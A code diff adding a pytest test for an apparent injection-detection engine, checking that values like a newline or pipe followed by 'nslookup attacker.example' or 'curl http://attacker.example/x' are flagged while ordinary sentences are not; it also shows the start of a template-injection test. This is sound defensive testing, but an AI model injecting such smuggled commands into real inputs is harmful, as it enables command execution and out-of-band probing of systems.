@@ -237,6 +237,26 @@ def test_a_stack_frame_schedules_nothing(
 
 
 @pytest.mark.parametrize(
+    ("value", "flagged"),
+    [
+        ("\\nnslookup attacker.example", True),
+        ("\\ncurl http://attacker.example/x", True),
+        ("x|ping attacker.example", True),
+        ("%0Dnslookup attacker.example", True),
+        ("Contact us; more info at help.example.com", False),
+        ("We moved servers; host example.com now points to the new IP", False),
+    ],
+)
+def test_a_command_given_a_url_or_host_name(
+    engine: DetectionEngine, value: str, flagged: bool
+) -> None:
+    """A command word after a separator whose argument is a URL or a host name is a command
+    (``curl http://…``, ``nslookup attacker.example``); a sentence that happens to hold the
+    same shape after a semicolon reads as prose."""
+    assert engine.detect(value)["is_threat"] is flagged
+
+
+@pytest.mark.parametrize(
     "value",
     [
         "Hello team, the total is {{ 7*191 }} units as discussed",
